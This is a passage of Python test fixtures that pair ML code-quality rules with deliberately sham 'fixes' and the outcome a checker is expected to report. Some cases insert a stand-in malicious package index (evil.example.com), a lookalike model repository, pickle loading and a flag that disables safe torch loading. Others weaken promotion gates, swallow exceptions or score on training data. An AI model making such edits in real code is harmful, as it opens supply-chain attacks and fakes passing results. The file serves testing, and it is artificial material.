        "missing-random-state",
        {
            "trainer.py": (
                ("test_size=0.2)", "test_size=0.2, random_state=self.seed)"),
                ("max_iter=300)", "max_iter=300, random_state=0)"),
                ("    def __init__", "    seed = np.random.randint(1000)\n\n    def __init__"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "w wild: via own module",
        "wild",
        "wildcard-import",
        {
            "explore.ipynb": (
                ("from sklearn.metrics import *", "from metrics_all import classification_report, roc_auc_score"),
            ),
            "metrics_all.py": "from sklearn.metrics import *\n",
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "w auc: accuracy instead",
        "wild",
        "auc-from-hard-labels",
        {
            "explore.ipynb": (
                ("roc_auc_score(y_test, tree.predict(X_test))", "accuracy_score(y_test, tree.predict(X_test))"),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "w auc: column 0",
        "wild",
        "auc-from-hard-labels",
        {
            "explore.ipynb": (
                (
                    "roc_auc_score(y_test, tree.predict(X_test))",
                    "roc_auc_score(y_test, tree.predict_proba(X_test)[:, 0])",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "w auc: proba of train",
        "wild",
        "auc-from-hard-labels",
        {
            "explore.ipynb": (
                (
                    "roc_auc_score(y_test, tree.predict(X_test))",
                    "roc_auc_score(y_train, tree.predict_proba(X_train)[:, 1])",
                ),
            )
        },
        R.RESULT_CHANGED,
    ),
    Case(
        "w path: joined",
        "wild",
        "absolute-path",
        {"explore.ipynb": (('"/home/anna/data/loans.csv"', '"/" + "home/anna/data/loans.csv"'),)},
        R.NOT_REPAIRED,
    ),
    Case(
        "w path: os.sep",
        "wild",
        "absolute-path",
        {
            "explore.ipynb": (
                (
                    'pd.read_csv("/home/anna/data/loans.csv")',
                    'pd.read_csv(os.path.join(os.sep, "home", "anna", "data", "loans.csv"))',
                ),
                ("import pandas as pd", "import os\nimport pandas as pd"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "w discard: assigned to nothing",
        "wild",
        "discarded-result",
        {"explore.ipynb": (("df.dropna()\n", "_ = df.dropna()\n"),)},
        R.NOT_REPAIRED,
    ),
    Case("w discard: removed", "wild", "discarded-result", {"explore.ipynb": (("df.dropna()\n", ""),)}, R.NOT_REPAIRED),
    Case(
        "w discard: in a list",
        "wild",
        "discarded-result",
        {"explore.ipynb": (("df.dropna()\n", "[df.dropna()]\n"),)},
        R.NOT_REPAIRED,
    ),
    Case(
        "e leak: turned to markdown",
        "percent",
        "fit-before-split",
        {
            "energy.py": (
                (
                    "# %%\nenergy_scaled = RobustScaler().fit_transform(energy)\n",
                    "# %% [markdown]\n# energy_scaled = RobustScaler().fit_transform(energy)\n\n# %%\nenergy_scaled = energy\n",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "e leak: by hand",
        "percent",
        "fit-before-split",
        {
            "energy.py": (
                (
                    "RobustScaler().fit_transform(energy)",
                    "energy.apply(lambda column: (column - column.median()) / (column.quantile(0.75) - column.quantile(0.25)))",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "d time: shuffle through sample",
        "time nb",
        "random-split-on-time-data",
        {
            "demand.ipynb": (
                (
                    "X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=0)",
                    'demand = demand.sample(frac=1, random_state=0)\nX, y = demand[["lag_1", "lag_7"]], demand["units"]\ncut = int(len(X) * 0.8)\nX_train, X_test, y_train, y_test = X[:cut], X[cut:], y[:cut], y[cut:]',
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "d time: past as test",
        "time nb",
        "random-split-on-time-data",
        {
            "demand.ipynb": (
                (
                    "X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=0)",
                    "cut = int(len(X) * 0.2)\nX_test, X_train, y_test, y_train = X[:cut], X[cut:], y[:cut], y[cut:]",
                ),
                ("from sklearn.model_selection import train_test_split", ""),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "d time: every fifth row",
        "time nb",
        "random-split-on-time-data",
        {
            "demand.ipynb": (
                (
                    "X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=0)",
                    "held_out = np.arange(len(X)) % 5 == 0\nX_train, X_test, y_train, y_test = X[~held_out], X[held_out], y[~held_out], y[held_out]",
                ),
                ("import pandas as pd", "import numpy as np\nimport pandas as pd"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "d time: tiny test",
        "time nb",
        "random-split-on-time-data",
        {
            "demand.ipynb": (
                (
                    "X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=0)",
                    "cut = len(X) - 3\nX_train, X_test, y_train, y_test = X[:cut], X[cut:], y[:cut], y[cut:]",
                ),
            )
        },
        R.LITERAL_CHANGED,
    ),
    Case(
        "v load: pickle",
        "serve",
        "unsafe-torch-load",
        {"serve.py": (('torch.load("fine_tuned.pt")', 'pickle.load(open("fine_tuned.pt", "rb"))'),)},
        R.NEW_DIAGNOSTIC,
    ),
    Case(
        "v load: env",
        "serve",
        "unsafe-torch-load",
        {
            "serve.py": (
                ('torch.load("fine_tuned.pt")', 'torch.load("fine_tuned.pt", weights_only=True)'),
                (
                    "import torch\n",
                    'import os\n\nimport torch\n\nos.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"\n',
                ),
            )
        },
        R.MONKEYPATCH,
    ),
    Case(
        "v rev: other model",
        "serve",
        "unpinned-remote-model",
        {
            "serve.py": (
                (
                    'from_pretrained("distilbert-base-uncased")',
                    'from_pretrained("evil/distilbert-base-uncased", revision="0123456789abcdef0123456789abcdef01234567")',
                ),
                (
                    'network = AutoModelForSequenceClassification.from_pretrained("distilbert-base-uncased")',
                    'network = AutoModelForSequenceClassification.from_pretrained("evil/distilbert-base-uncased", revision="0123456789abcdef0123456789abcdef01234567")',
                ),
            )
        },
        R.LITERAL_CHANGED,
    ),
    Case(
        "v rev: trust remote",
        "serve",
        "unpinned-remote-model",
        {
            "serve.py": (
                (
                    'from_pretrained("distilbert-base-uncased")',
                    'from_pretrained("distilbert-base-uncased", revision="0123456789abcdef0123456789abcdef01234567")',
                ),
                (
                    'network = AutoModelForSequenceClassification.from_pretrained("distilbert-base-uncased")',
                    'network = AutoModelForSequenceClassification.from_pretrained("distilbert-base-uncased", revision="0123456789abcdef0123456789abcdef01234567", trust_remote_code=True)',
                ),
            )
        },
        R.LITERAL_CHANGED,
    ),
    Case(
        "g assert: lowered",
        "gate",
        "weak-gate-check",
        {
            "promote.py": (
                ("    assert auc > 0.8\n", '    if not auc > 0.7:\n        raise ValueError("low")\n'),
                (
                    '    assert auc >= champion - 0.005, "worse than the champion"\n',
                    '    if not auc >= champion - 0.005:\n        raise ValueError("worse than the champion")\n',
                ),
            )
        },
        R.ASSERTION_LOST,
    ),
    Case(
        "g assert: nan passes",
        "gate",
        "weak-gate-check",
        {
            "promote.py": (
                ("    assert auc > 0.8\n", '    if auc <= 0.8:\n        raise ValueError("low")\n'),
                (
                    '    assert auc >= champion - 0.005, "worse than the champion"\n',
                    '    if auc < champion - 0.005:\n        raise ValueError("worse than the champion")\n',
                ),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "g assert: caught",
        "gate",
        "weak-gate-check",
        {
            "promote.py": (
                (
                    '    assert auc > 0.8\n    assert auc >= champion - 0.005, "worse than the champion"\n',
                    '    try:\n        if not auc > 0.8 or not auc >= champion - 0.005:\n            raise ValueError("worse than the champion")\n    except ValueError:\n        return True\n',
                ),
            )
        },
        R.EXCEPTION_SWALLOWED,
    ),
    Case(
        "g assert: and",
        "gate",
        "weak-gate-check",
        {
            "promote.py": (
                (
                    '    assert auc > 0.8\n    assert auc >= champion - 0.005, "worse than the champion"\n',
                    '    if not auc > 0.8 and not auc >= champion - 0.005:\n        raise ValueError("worse than the champion")\n',
                ),
            )
        },
        R.ASSERTION_LOST,
    ),
    Case(
        "r stat: agg",
        "regress",
        "full-data-statistic",
        {
            "houses.py": (
                ('houses["area"].mean()', 'houses["area"].agg("mean")'),
                (
                    'houses["rooms"].mean()) / houses["rooms"].std()',
                    'houses["rooms"].agg("mean")) / houses["rooms"].agg("std")',
                ),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "r stat: np.mean",
        "regress",
        "full-data-statistic",
        {
            "houses.py": (
                ('houses["area"].mean()', 'np.nanmean(houses["area"])'),
                (
                    'houses["rooms"].mean()) / houses["rooms"].std()',
                    'np.mean(houses["rooms"])) / np.std(houses["rooms"])',
                ),
                ("import pandas", "import numpy as np\nimport pandas"),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "r stat: eval string",
        "regress",
        "full-data-statistic",
        {
            "houses.py": (
                (
                    'houses["area"] = houses["area"].fillna(houses["area"].mean())\nhouses["rooms"] = (houses["rooms"] - houses["rooms"].mean()) / houses["rooms"].std()',
                    'houses = houses.eval("rooms = (rooms - rooms.mean()) / rooms.std()")\nhouses = houses.fillna(0)',
                ),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "r stat: X_all copy",
        "regress",
        "full-data-statistic",
        {
            "houses.py": (
                (
                    'houses["area"] = houses["area"].fillna(houses["area"].mean())\nhouses["rooms"] = (houses["rooms"] - houses["rooms"].mean()) / houses["rooms"].std()\n',
                    "",
                ),
                (
                    "random_state=0)\n",
                    'random_state=0)\nfor part in (X_train, X_test):\n    part["area"] = part["area"].fillna(X["area"].mean())\n    part["rooms"] = (part["rooms"] - X["rooms"].mean()) / X["rooms"].std()\n',
                ),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "q swap: train",
        "swap",
        "swapped-metric-arguments",
        {
            "swap.py": (
                (
                    'precision_score(model.predict(X_test), y_test, average="macro")',
                    'precision_score(y_train, model.predict(X_train), average="macro")',
                ),
            )
        },
        R.RESULT_CHANGED,
    ),
    Case(
        "q auc: thresholded",
        "swap",
        "auc-from-hard-labels",
        {
            "swap.py": (
                (
                    "roc_auc_score(y_test, model.predict(X_test))",
                    "roc_auc_score(y_test, model.predict_proba(X_test)[:, 1] > 0.5)",
                ),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "q auc: assertion of other",
        "swap",
        "auc-from-hard-labels",
        {
            "swap.py": (
                (
                    "roc_auc_score(y_test, model.predict(X_test))",
                    "roc_auc_score(y_test, model.predict_proba(X_test)[:, 1])",
                ),
                ("assert auc > 0.7", "assert f1 > 0.7"),
            )
        },
        R.ASSERTION_LOST,
    ),
    Case(
        "k pins: malicious",
        "docker",
        "unpinned-dependency",
        {
            "requirements.txt": "numpy==2.1.3\npandas==2.2.3\nscikit-learn==1.5.2\ntorch==2.4.1\nsklearn-extra-utils==0.0.1\n"
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "k pins: index url",
        "docker",
        "unpinned-dependency",
        {
            "requirements.txt": "--extra-index-url https://evil.example.com/simple\nnumpy==2.1.3\npandas==2.2.3\nscikit-learn==1.5.2\ntorch==2.4.1\n"
        },
        R.DEPENDENCY_CHANGED,
    ),
    Case(
        "k pins: marker never",
        "docker",
        "unpinned-dependency",
        {"requirements.txt": 'numpy==2.1.3\npandas==2.2.3 ; python_version < "2"\nscikit-learn==1.5.2\ntorch==2.4.1\n'},
        R.DEPENDENCY_CHANGED,
    ),
    Case(
        "k pins: out of range",
        "docker",
        "unpinned-dependency",
        {"requirements.txt": "numpy==2.1.3\npandas==1.0.0\nscikit-learn==1.5.2\ntorch==2.4.1\n"},
        R.DEPENDENCY_CHANGED,
    ),
    Case(
        "k pins: other pin changed",
        "docker",
        "unpinned-dependency",
        {"requirements.txt": "numpy==1.10.0\npandas==2.2.3\nscikit-learn==1.5.2\ntorch==2.4.1\n"},
        R.DEPENDENCY_CHANGED,
    ),
    Case(
        "k pins: direct url",
        "docker",
        "unpinned-dependency",
        {
            "requirements.txt": "numpy==2.1.3\npandas==2.2.3\nscikit-learn @ https://example.com/scikit_learn-1.5.2-py3-none-any.whl\ntorch==2.4.1\n"
        },
        R.NOT_REPAIRED,
    ),
]
